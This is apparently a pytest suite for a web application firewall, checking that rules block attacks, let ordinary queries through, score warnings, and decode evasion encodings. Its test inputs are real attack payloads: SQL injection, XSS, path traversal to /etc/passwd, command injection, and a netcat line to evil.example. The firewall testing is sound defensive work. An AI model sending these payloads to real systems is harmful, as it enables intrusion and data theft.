import re
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest

from edge.domain.waf import WARNING, Rule, Verdict, WafPolicy, inspect
from edge.domain.waf_rules import RULES, VIEWS, gate_text, gate_tokens, url_view
from edge.domain.waf_transforms import (
    cmd_line,
    html_entity_decode,
    js_decode,
    remove_comments,
    replace_comments,
    url_decode_uni,
)

POLICY = WafPolicy()


def verdict(
    path: str = "/catalog/v1/titles",
    query: str = "",
    method: str = "GET",
    headers: list[tuple[str, str]] | None = None,
    policy: WafPolicy = POLICY,
) -> Verdict:
    return inspect(method, path, query, headers or [("User-Agent", "curl/8")], policy)


@pytest.mark.parametrize(
    ("query", "rule"),
    [
        ("q=1' OR '1'='1", "942100"),
        ("q=1%27%20or%20%27a%27%3D%27a", "942100"),
        ("id=1 UNION ALL SELECT password FROM users", "942190"),
        ("id=1; DROP TABLE users", "942110"),
        ("id=1 AND sleep(5)", "942160"),
        ("q=<script>alert(1)</script>", "941100"),
        ("q=%253Cscript%253E", "941100"),  # double encoded
        ("q=<img src=x onerror=alert(1)>", "941110"),
        ("next=javascript:alert(1)", "941170"),
        ("file=../../etc/passwd", "930100"),
    ],
)
def test_attacks_are_blocked_by_the_rule_that_names_them(query: str, rule: str) -> None:
    result = verdict(query=query)
    assert result.blocked
    assert result.blocked_by == rule


@pytest.mark.parametrize(
    "query",
    [
        "q=rock and roll",
        "title=Don't Look Up",
        "sort=-year",
        "q=select a movie",
        "page=2&limit=20",
        "q=100% good",
        "email=a@b.c",
    ],
)
def test_ordinary_requests_pass(query: str) -> None:
    assert not verdict(query=query).blocked


def test_encoded_traversal_in_the_path() -> None:
    assert verdict(path="/catalog/%2e%2e/%2e%2e/etc/passwd").blocked


def test_bad_methods_and_oversized_headers() -> None:
    assert verdict(method="TRACE").blocked_by == "911100"
    assert verdict(headers=[("X-Big", "a" * 9000)]).blocked_by == "920380"
    many = [(f"X-H{i}", "a" * 1000) for i in range(40)]
    assert verdict(headers=many).blocked_by == "920380"


def test_xss_in_headers_is_scored_too() -> None:
    assert verdict(headers=[("Referer", "http://x/<script>")]).blocked_by == "941100"


def test_warnings_add_up_to_the_threshold() -> None:
    one_warning = verdict(query="q=a /* b */ c")
    assert (one_warning.score, one_warning.matched) == (3, ("942440",))
    assert not one_warning.blocked
    two = verdict(query="q=a /* b */ alert(1)")
    assert two.score == 6
    assert two.blocked


def test_policy_threshold_disabled_rules_and_custom_rules() -> None:
    lenient = WafPolicy(threshold=100)
    assert not verdict(query="q=<script>", policy=lenient).blocked
    assert not verdict(query="q=<script>", policy=WafPolicy(disabled=frozenset({"941100"}))).blocked
    custom = WafPolicy(custom=(Rule("1001", "no bots", re.compile("badbot", re.I), 5, True),))
    assert verdict(headers=[("User-Agent", "BadBot/1.0")], policy=custom).blocked_by == "1001"


# -- item 10 of issue 14: evasions, blind spots and false positives of the old rule set ---------


@pytest.mark.parametrize(
    ("query", "rule"),
    [
        ("id=1%20UN/**/ION%20SEL/**/ECT%201,2", "942190"),
        ("id=/*!50000UNION*/%20SELECT%201", "942190"),
        ("id=1%20OR%201=1", "942100"),
        ("id=x%27%20or%202%3E1--", "942100"),
        ("q=%3Cdetails%20open%20ontoggle=alert(1)%3E", "941110"),
        ("q=%3Csvg%20onload=alert(1)%3E", "941110"),
        ("next=%26%23106;avascript:alert(1)", "941170"),
        ("next=%26%23x6A;avascript:alert(1)", "941170"),
        ("f=%c0%ae%c0%ae/%c0%ae%c0%ae/secret", "930100"),
        ("q=x%3B%20cat%20/tmp/notes", "932100"),
        ("q=$(id)", "932100"),
        ("q=%60id%60", "932100"),
        ("q=x%20%7C%20nc%20evil.example%204444", "932100"),
    ],
)
def test_evasions_of_the_old_rules_are_blocked(query: str, rule: str) -> None:
    assert verdict(query=query).blocked_by == rule


def test_command_injection_alone_reaches_the_threshold() -> None:
    result = verdict(query="q=%3B%20cat%20/tmp/x")
    assert result.blocked
    assert result.matched == ("932100",)


def test_sql_injection_in_a_cookie_is_blocked() -> None:
    headers = [("User-Agent", "curl/8"), ("Cookie", "theme=dark; session=1' or '1'='1")]
    assert verdict(headers=headers).blocked_by == "942100"


def test_a_json_body_is_inspected_when_given() -> None:
    headers = [("Content-Type", "application/json")]
    body = b'{"text": "<svg onload=alert(1)>"}'
    assert inspect("POST", "/chat/v1/messages", "", headers, POLICY, body=body).blocked
    calm = b'{"text": "meeting notes; update status tomorrow"}'
    assert not inspect("POST", "/chat/v1/messages", "", headers, POLICY, body=calm).blocked


@pytest.mark.parametrize(
    "sentence",
    [
        "trade union select committee",
        "baby sleep (tips)",
        "meeting notes; update status tomorrow",
        "I love JavaScript: The Good Parts.",
    ],
)
def test_ordinary_sentences_score_nothing(sentence: str) -> None:
    assert verdict(query="q=" + quote(sentence)).score == 0


def test_a_bare_event_handler_outside_a_tag_is_only_a_warning() -> None:
    result = verdict(query="q=" + quote("onclick= in html"))
    assert (result.score, result.blocked) == (WARNING, False)


@pytest.mark.parametrize(
    ("function", "given", "expected"),
    [
        (url_decode_uni, "%c0%ae%c0%ae%c0%af", "../"),
        (url_decode_uni, "%e0%80%ae%uff0e", ".."),
        (url_decode_uni, "%u003cscript%u003e", "<script>"),
        (url_decode_uni, "a+b%2Bc", "a b+c"),
        (html_entity_decode, "&#106;&#x61;&#0000118a&colon;", "java:"),
        (js_decode, "\\u006a\\x61\\166a", "java"),
        (remove_comments, "UN/**/ION SEL/*x*/ECT", "UNION SELECT"),
        (remove_comments, "/*!50000UNION*/ SELECT", "UNION SELECT"),
        (replace_comments, "UNION/**/SELECT", "UNION SELECT"),
        (cmd_line, "C'a't${IFS}/etc/pa\\sswd", "cat /etc/passwd"),
    ],
)
def test_transformations(function: Callable[[str], str], given: str, expected: str) -> None:
    assert function(given) == expected


def _corpus_payloads() -> list[str]:
    corpus = Path(__file__).parents[1] / "waf_corpus"
    lines = (corpus / "attacks.txt").read_text().splitlines()
    lines += (corpus / "benign.txt").read_text().splitlines()
    return [line.partition("\t")[2] or line for line in lines if line and line[0] != "#"]


def test_the_gates_never_hide_a_match() -> None:
    """A rule's pattern is tried only when the value holds one of its gate substrings: over
    the corpus, every value that a pattern matches passes that rule's gate."""
    for payload in _corpus_payloads():
        url = url_view(payload)
        for rule in RULES:
            if any(rule.pattern.search(VIEWS[view](url)) for view in rule.views):
                found = gate_tokens(gate_text(url), rule.targets)
                assert rule.gate & found, (rule.id, payload)
